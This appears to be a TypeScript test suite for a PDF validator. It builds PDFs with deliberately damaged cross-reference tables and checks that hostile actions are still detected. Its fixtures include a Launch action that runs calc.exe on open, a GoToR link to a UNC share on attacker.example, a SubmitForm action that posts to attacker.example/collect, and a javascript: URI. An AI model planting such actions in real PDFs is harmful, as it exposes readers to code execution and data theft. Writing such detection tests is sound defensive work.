/**
 * A file whose cross-reference data is damaged — on purpose, so that qpdf's WebAssembly gives no
 * object graph — is still judged on the graph a reader resolves: the table is rebuilt as qpdf
 * rebuilds it (`pdf-xref-rebuild.ts`) and the repaired copy read with qpdf. Each file is built in
 * the test, then damaged the way an attacker would.
 */
import { describe, expect, it } from 'vitest';
import { readQpdfGraph } from '../../../shared/pdf/qpdf-engine.js';
import { readRebuiltGraph } from '../../../shared/pdf/pdf-xref-rebuild.js';
import { DEFAULT_XREF_REBUILD_LIMITS, planRebuild } from '../../../shared/pdf/pdf-xref-scan.js';
import { validatePdf, type PdfVerdict } from '../../../shared/pdf/validate-pdf.js';
import { damageXref, handPdf, objStmPdf, type Hiding, type XrefDamage } from '../../helpers/hostile-pdf.js';
import { pdfString } from '../../helpers/make-pdf.js';

const codes = (verdict: PdfVerdict): string[] => verdict.reasons.map((r) => r.code);
const warnings = (verdict: PdfVerdict): string[] => verdict.warnings.map((r) => r.code);
const messages = (verdict: PdfVerdict): string => verdict.reasons.map((r) => r.message).join('\n');
const QPDF = { heapLimitBytes: 256 * 1024 * 1024 };

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const CONTENT = new TextEncoder().encode('BT /F1 12 Tf 72 720 Td (Photosynthesis, week 3) Tj ET');
const LAUNCH = `<< /Type /Action /S /Launch /F ${pdfString('C:\\Windows\\System32\\calc.exe')} >>`;

/** One text page whose catalog runs object 5 when the document opens. */
function opening(action: string, hiding: Hiding = 'none'): Uint8Array {
  return handPdf([
    { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
    { num: 2, body: PAGES },
    { num: 3, body: PAGE },
    { num: 4, body: '<< >>', stream: CONTENT },
    { num: 5, body: action, hiding },
    { num: 6, body: FONT },
  ]);
}

/** The same page with every object but the content stream packed in a hex-encoded object stream (the raw scan cannot decode it). */
function packed(action: string, where: 'open' | 'link'): Uint8Array {
  return objStmPdf(
    {
      1: `<< /Type /Catalog /Pages 2 0 R ${where === 'open' ? '/OpenAction 5 0 R' : ''} >>`,
      2: PAGES,
      3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >> ${where === 'link' ? '/Annots [7 0 R]' : ''} >>`,
      5: action,
      6: FONT,
      7: '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>',
    },
    {},
    'hex',
  );
}

describe('qpdf’s WebAssembly gives no graph for these files: the rebuild is what reads them', () => {
  it.each<[string, Uint8Array]>([
    ['no startxref', damageXref(opening(LAUNCH), 'no-startxref')],
    ['wrong offsets', damageXref(opening(LAUNCH), 'wrong-offsets')],
    ['a broken cross-reference stream', damageXref(packed(LAUNCH, 'open'), 'broken-xref')],
  ])('%s', async (_name, bytes) => {
    expect((await readQpdfGraph(bytes, QPDF)).status).toBe('failed');
    const rebuilt = await readRebuiltGraph(bytes, QPDF);
    expect(rebuilt.status).toBe('rebuilt');
    if (rebuilt.status !== 'rebuilt' || rebuilt.graph.status !== 'read') throw new Error('the rebuilt copy was not read');
    expect(rebuilt.graph.trailer['/Root']).toBe('1 0 R');
    expect(rebuilt.graph.objects.get('5 0 R')?.value).toMatchObject({ '/S': '/Launch' });
  });
});

describe('hostile files with a damaged cross-reference table are rejected for what a reader resolves', () => {
  it.each<[XrefDamage, Hiding]>([
    ['no-startxref', 'none'],
    ['wrong-offsets', 'none'],
    ['broken-xref', 'none'],
    ['no-startxref', 'duplicate-later'],
    ['wrong-offsets', 'duplicate-later'],
    ['wrong-offsets', 'length-ref'],
  ])('a Launch action on open, xref damage %s, object written %s', async (damage, hiding) => {
    const verdict = await validatePdf(damageXref(opening(LAUNCH, hiding), damage));
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
    // Named as a reader meets it: only the object graph says where an action runs.
    expect(messages(verdict)).toContain('when the document is opened (OpenAction)');
    expect(warnings(verdict)).toContain('pdf.damaged-recovered');
  });

  it('rejects the hostile one of two definitions even when the clean one comes later (another reader may pick the first)', async () => {
    const verdict = await validatePdf(damageXref(opening(LAUNCH, 'duplicate'), 'no-startxref'));
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
    expect(messages(verdict)).toContain('an earlier definition of object 5 0, which a later one replaces');
  });

  it.each<[XrefDamage, 'open' | 'link', string, string, string]>([
    ['broken-xref', 'open', LAUNCH, 'pdf.launch-action', 'when the document is opened (OpenAction)'],
    ['wrong-offsets', 'link', LAUNCH, 'pdf.launch-action', 'a link on page 1'],
    ['no-startxref', 'link', `<< /S /GoToR /F ${pdfString('\\\\attacker.example\\share\\x.pdf')} /D [0 /Fit] >>`, 'pdf.unsafe-action', 'a link on page 1'],
    ['broken-xref', 'open', '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>', 'pdf.unsafe-action', 'when the document is opened (OpenAction)'],
    ['broken-xref', 'link', '<< /S /URI /URI (javascript:app.alert(1)) >>', 'pdf.javascript', 'a link on page 1'],
  ])('in a hex object stream (undecodable for the raw scan), xref damage %s, %s: %s', async (damage, where, action, code, place) => {
    const verdict = await validatePdf(damageXref(packed(action, where), damage));
    // With its cross-reference stream broken, pdf.js cannot open the file either (pdf.unreadable
    // beside it); the action is named all the same.
    expect(codes(verdict).filter((c) => c !== 'pdf.unreadable')).toEqual([code]);
    expect(messages(verdict)).toContain(place);
  });

  it('rejects a Launch action in a file whose only damage is a stream /Length qpdf’s WebAssembly does not recover from', async () => {
    const bytes = Buffer.from(opening(LAUNCH)).toString('latin1').replace(`/Length ${CONTENT.length} >>`, `/Length ${CONTENT.length + 9} >>`);
    const damaged = Uint8Array.from(bytes, (c) => c.charCodeAt(0));
    expect((await readQpdfGraph(damaged, QPDF)).status).toBe('failed');
    const verdict = await validatePdf(damaged);
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
    expect(messages(verdict)).toContain('when the document is opened (OpenAction)');
  });
});

describe('an object stream no reader can decode does not hide the ones beside it', () => {
  it('rejects a Launch action in a hex object stream next to a corrupt Flate one (which stops qpdf’s WebAssembly)', async () => {
    const objects = {
      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      2: PAGES,
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
      5: LAUNCH,
    };
    const bytes = objStmPdf(objects, {}, 'hex', { 8: '<< /Producer (x) >>' });
    expect((await readQpdfGraph(bytes, QPDF)).status).toBe('failed');
    const verdict = await validatePdf(bytes);
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
    expect(messages(verdict)).toContain('when the document is opened (OpenAction)');
  });
});

describe('clean files with a damaged cross-reference table are published, with a warning', () => {
  it.each<[string, XrefDamage, 'hand' | 'packed']>([
    ['no startxref', 'no-startxref', 'hand'],
    ['wrong offsets', 'wrong-offsets', 'hand'],
    ['a misspelt xref keyword', 'broken-xref', 'hand'],
    ['a cross-reference stream startxref that misses', 'wrong-offsets', 'packed'],
  ])('%s', async (_name, damage, kind) => {
    const clean = '<< /S /GoTo /D [3 0 R /Fit] >>';
    const verdict = await validatePdf(damageXref(kind === 'hand' ? opening(clean) : packed(clean, 'link'), damage));
    expect(verdict.reasons).toEqual([]);
    expect(verdict.ok).toBe(true);
    expect(warnings(verdict)).toContain('pdf.damaged-recovered');
    expect(verdict.metadata.activeContent).toEqual([]);
    expect(verdict.metadata.pageCount).toBe(1);
  });
});

describe('the rebuild’s work is bounded in objects and tokens, not time', () => {
  const damaged = damageXref(opening(LAUNCH), 'no-startxref');

  it('plans a rebuild of an ordinary damaged file within the default limits', () => {
    const outcome = planRebuild(damaged);
    expect(outcome.status).toBe('planned');
    if (outcome.status === 'planned') expect([...outcome.plan.objects.keys()].sort((a, b) => a - b)).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it('gives up (the caller keeps its fallback) past the object or token budget', () => {
    expect(planRebuild(damaged, { ...DEFAULT_XREF_REBUILD_LIMITS, maxObjects: 5 })).toEqual({ status: 'not-rebuilt', why: 'it defines more than 5 objects' });
    expect(planRebuild(damaged, { ...DEFAULT_XREF_REBUILD_LIMITS, maxTokens: 10 }).status).toBe('not-rebuilt');
  });
});
